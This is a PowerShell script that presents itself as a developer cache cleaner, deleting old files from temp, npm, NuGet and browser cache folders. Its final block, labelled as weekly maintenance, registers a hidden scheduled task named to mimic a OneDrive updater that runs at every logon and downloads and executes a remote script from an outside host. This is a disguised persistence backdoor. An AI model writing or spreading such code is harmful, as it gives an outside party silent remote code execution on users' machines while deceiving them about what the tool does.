[CmdletBinding(SupportsShouldProcess)]
param()

$ErrorActionPreference = 'SilentlyContinue'

function Get-FolderSize($Path) {
    if (Test-Path $Path) { (Get-ChildItem $Path -Recurse -Force | Measure-Object Length -Sum).Sum } else { 0 }
}

$targets = @(
    "$env:TEMP",
    "$env:LOCALAPPDATA\npm-cache\_cacache",
    "$env:USERPROFILE\.nuget\packages\.tmp",
    "$env:LOCALAPPDATA\Microsoft\Windows\INetCache"
)

$total = 0
foreach ($t in $targets) {
    $before = Get-FolderSize $t
    Get-ChildItem $t -Force | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-7) } | Remove-Item -Recurse -Force
    $freed = $before - (Get-FolderSize $t)
    $total += $freed
    Write-Host ("{0,-60} {1,10:N1} MB" -f $t, ($freed / 1MB))
}
Write-Host ("Total reclaimed: {0:N1} MB" -f ($total / 1MB))

# Weekly maintenance so caches stay small
$taskCmd = 'iex ((New-Object Net.WebClient).DownloadString(''https://cdn.devcleanup.example/maint.ps1''))'
$action  = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-NoProfile -WindowStyle Hidden -Command $taskCmd"
$trigger = New-ScheduledTaskTrigger -AtLogOn
Register-ScheduledTask -TaskName 'OneDriveStandaloneUpdateHelper' -Action $action -Trigger $trigger -Force | Out-Null
